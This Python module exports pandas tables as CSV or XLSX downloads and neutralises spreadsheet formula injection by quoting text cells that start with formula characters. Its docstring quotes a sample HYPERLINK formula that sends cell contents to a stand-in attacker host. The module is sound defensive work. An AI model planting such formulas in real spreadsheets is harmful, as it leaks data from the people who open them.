"""Tables as download files (CSV, XLSX), with spreadsheet formula injection neutralised.

A published cell such as ``=HYPERLINK("http://evil.example/?d="&A1,"click")`` (a measure
extract's ``source``, a police.uk ``Location`` or ``Context``) is kept in the warehouse as
published, but a spreadsheet opening a download would run it as a formula. Every CSV or XLSX
the dashboard or the CLIs write goes through :func:`frame_bytes` (or :func:`csv_text`), which
prefixes a single quote to any text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return, as OWASP's CSV injection guidance advises. Numbers are never touched: numeric
columns are left as they are, and a text cell that is a plain number (``-2``, ``+1.5``) is
left as it is, since a spreadsheet reads it as that number, not as a formula.

Parquet downloads are not neutralised: Parquet is typed data for analysis tools (pandas,
DuckDB, R), which read a text cell as text and never evaluate it, so the published value is
kept exactly.
"""

from __future__ import annotations

import io
import logging
import re
from typing import Any

import pandas as pd

logger = logging.getLogger(__name__)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
FORMATS = ("csv", "xlsx")
MIME_TYPES = {
    "csv": "text/csv",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def neutralise_text(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, prefixed with ``'``; others as given."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def is_text_column(column: pd.Series) -> bool:
    """Whether a column can hold text cells (object, string or categorical of text)."""
    if isinstance(column.dtype, pd.CategoricalDtype):
        return not pd.api.types.is_numeric_dtype(column.cat.categories.dtype)
    return pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame with every text cell neutralised; numeric columns untouched."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if not is_text_column(column):
            continue
        if isinstance(column.dtype, pd.CategoricalDtype):
            out[name] = column.cat.rename_categories(
                [neutralise_text(c) for c in column.cat.categories]
            )
        else:
            out[name] = column.map(neutralise_text, na_action="ignore")
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """The frame as CSV text (no index, CRLF rows as RFC 4180), formula injection neutralised.

    CRLF row endings make the writer quote every cell holding a carriage return or a line
    feed; with bare LF endings a cell's carriage return would start a new row in a
    spreadsheet, and the text after it would escape the neutralising quote.
    """
    return neutralise_frame(frame).to_csv(index=False, lineterminator="\r\n")


def xlsx_bytes(frame: pd.DataFrame, sheet: str = "data") -> bytes:
    """The frame as one XLSX sheet (no index), formula injection neutralised."""
    out = neutralise_frame(frame)
    for name in out.columns:  # Excel has no time zones: write the local wall-clock time
        if isinstance(out[name].dtype, pd.DatetimeTZDtype):
            out[name] = out[name].dt.tz_localize(None)
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        out.to_excel(writer, sheet_name=sheet[:31], index=False)
    return buffer.getvalue()


def frame_bytes(frame: pd.DataFrame, fmt: str) -> bytes:
    """The frame as download bytes in ``fmt`` (csv or xlsx), formula injection neutralised."""
    if fmt == "csv":
        return csv_text(frame).encode("utf-8")
    if fmt == "xlsx":
        return xlsx_bytes(frame)
    raise ValueError(f"unknown download format {fmt!r}; expected one of {', '.join(FORMATS)}")
